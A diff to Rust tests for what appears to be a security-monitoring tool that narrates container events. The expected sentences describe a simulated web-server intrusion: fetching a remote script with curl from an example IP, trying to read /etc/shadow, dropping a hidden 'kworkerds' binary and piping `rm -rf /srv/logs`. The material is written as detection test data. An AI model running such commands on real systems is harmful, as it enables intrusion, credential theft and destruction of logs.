@@ -98,17 +98,17 @@ fn the_story_tells_who_came_what_they_fetched_and_what_is_missing() {
     press(&mut state, KeyCode::Char('1'));
     let told: Vec<&str> = state.story.iter().map(|sentence| sentence.text.as_str()).collect();
     for wanted in [
-        "From here on 1 204 bulk events are missing, within 8.5 s (refused).",
-        "sh was run by httpd with its input on a pipe (critical, rule shell-from-web-server, T1059.004)",
-        "sh (9107) ran `curl -s http://203.0.113.9/x.sh` as process 9108.",
-        "curl (9108) connected to 203.0.113.9:80, sent 78 B and received 1.9 kB.",
-        "sh (9109) tried to open /etc/shadow: EACCES.",
-        "sh (9109) made /tmp/.x/kworkerds.",
-        "chmod (9115) made /tmp/.x/kworkerds executable.",
-        "kworkerds (9116) could not connect to [2001:db8::2]:3333: ECONNREFUSED.",
-        "sh (9109) was given `rm -rf /srv/logs` through a pipe.",
-        "kworkerds (9116) was killed by SIGKILL.",
-        "The container was removed.",
+        "From here on 1 204 bulk events are missing, within 8.5 s (refused)",
+        "shell-from-web-server (critical, T1059.004): sh was run by httpd with its input on a pipe",
+        "sh (9107) ran `curl -s http://203.0.113.9/x.sh` as process 9108",
+        "curl (9108) connected to 203.0.113.9:80, sent 78 B and received 1.9 kB in the 587 ms that it lasted",
+        "sh (9109) tried to open /etc/shadow: EACCES",
+        "sh (9109) made /tmp/.x/kworkerds",
+        "chmod (9115) made /tmp/.x/kworkerds executable",
+        "kworkerds (9116) could not connect to [2001:db8::2]:3333: ECONNREFUSED",
+        "sh (9109) was given `rm -rf /srv/logs` through a pipe",
+        "kworkerds (9116) was killed by SIGKILL",
+        "The container was removed",
     ] {
         assert!(told.contains(&wanted), "{wanted} is not among {told:#?}");
     }
@@ -190,7 +190,7 @@ fn keys_that_a_program_echoes_itself_are_not_drawn_twice() {
     state.apply(Action::Seconds(2));
     assert_eq!(state.film.as_ref().expect("a film").screen().contents(), "ls\nbin etc");
     let told: Vec<&str> = state.story.iter().map(|sentence| sentence.text.as_str()).collect();
-    assert!(told.contains(&"sh (9109) was given `ls` through a pipe."), "{told:?}");
+    assert!(told.contains(&"sh (9109) was given `ls` through a pipe"), "{told:?}");
 }
 
 #[test]
